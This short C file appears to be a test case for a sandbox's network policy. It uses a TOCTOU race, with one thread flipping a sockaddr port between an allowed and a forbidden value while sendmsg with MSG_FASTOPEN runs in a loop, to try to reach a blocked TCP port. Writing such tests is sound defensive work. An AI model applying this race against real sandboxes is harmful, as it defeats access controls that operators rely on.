#include "attack.h"
// The same in the message of sendmsg.
static struct sockaddr_in a;
static volatile bool stop;
static void *flip(void *x) {
  in_port_t good = htons(num("allowed")), bad = htons(num("tcp4"));
  while (!stop) *(volatile in_port_t *)&a.sin_port = good, *(volatile in_port_t *)&a.sin_port = bad;
  return x;
}
ATTACK(.judge = "hit:tcp4", .needs = "allow") {
  pthread_t t;
  a = in4(num("allowed"));
  struct iovec v = {"x", 1};
  struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1};
  pthread_create(&t, NULL, flip, NULL);
  for (double end = now() + 0.5; now() < end;) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    sendmsg(fd, &m, MSG_FASTOPEN | MSG_NOSIGNAL);
    close(fd);
  }
  stop = true;
  pthread_join(t, NULL);
}
